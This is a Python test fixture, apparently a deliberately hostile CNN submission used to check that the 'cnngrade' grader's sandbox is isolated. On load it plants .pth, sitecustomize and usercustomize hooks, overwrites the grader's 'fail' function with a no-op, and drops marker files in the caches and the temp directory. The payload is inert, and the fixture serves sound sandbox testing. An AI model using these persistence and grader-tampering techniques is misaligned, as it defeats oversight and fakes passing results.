"""Hostile: plants code and data where the *next* submission (or the grader) will pick it up.

While the file loads it tries to write sitecustomize.py / usercustomize.py and a .pth file into
site-packages and the user site, to overwrite cnngrade's feedback module (making `fail` a no-op)
and plugin, to drop "pretrained" checkpoints into ~/.cache/torch and ~/.cache/cnngrade, and to
leave files in the temp directory. Every file it plants is named cnngrade-hostile-poison*. The Net
returns raw logits. Isolated: all of these are read-only or private to the sandbox and vanish with
it; no planted file exists on the host, and the next submission is graded normally.
"""

import os
import site
import sys
import sysconfig
import tempfile

import torch.nn as nn
import torch.nn.functional as F

MARK = "cnngrade-hostile-poison"
PAYLOAD = "import builtins; builtins.CNNGRADE_POISONED = True  # " + MARK + "\n"


def _plant():
    planted = []

    def write(path, text):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write(text)
            planted.append(path)
        except OSError:
            pass

    for directory in {sysconfig.get_paths()["purelib"], site.getusersitepackages()}:
        write(os.path.join(directory, f"{MARK}.pth"), PAYLOAD)
        write(os.path.join(directory, "sitecustomize.py"), PAYLOAD)
        write(os.path.join(directory, "usercustomize.py"), PAYLOAD)
    feedback = sys.modules.get("cnngrade.grader.feedback")
    if feedback is not None:
        write(feedback.__file__, "\ndef fail(message):  # " + MARK + "\n    return None\n")
        write(os.path.join(os.path.dirname(feedback.__file__), f"{MARK}.py"), PAYLOAD)
    for cache in ("~/.cache/torch/hub/checkpoints", "~/.cache/cnngrade", "/root/.cache/cnngrade"):
        write(os.path.join(os.path.expanduser(cache), f"{MARK}.pt"), MARK)
    write(os.path.join(tempfile.gettempdir(), f"{MARK}.txt"), MARK)
    write(os.path.join(os.path.dirname(os.path.abspath(__file__)), f"{MARK}.py"), PAYLOAD)
    return planted


class Net(nn.Module):
    planted = _plant()

    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 10, kernel_size=5)
        self.conv2 = nn.Conv2d(10, 20, kernel_size=5)
        self.conv2_drop = nn.Dropout2d()
        self.fc1 = nn.Linear(320, 50)
        self.fc2 = nn.Linear(50, 10)

    def forward(self, x):
        x = F.relu(F.max_pool2d(self.conv1(x), 2))
        x = F.relu(F.max_pool2d(self.conv2_drop(self.conv2(x)), 2))
        x = F.relu(self.fc1(x.flatten(1)))
        x = F.dropout(x, training=self.training)
        return self.fc2(x)  # bug: raw logits
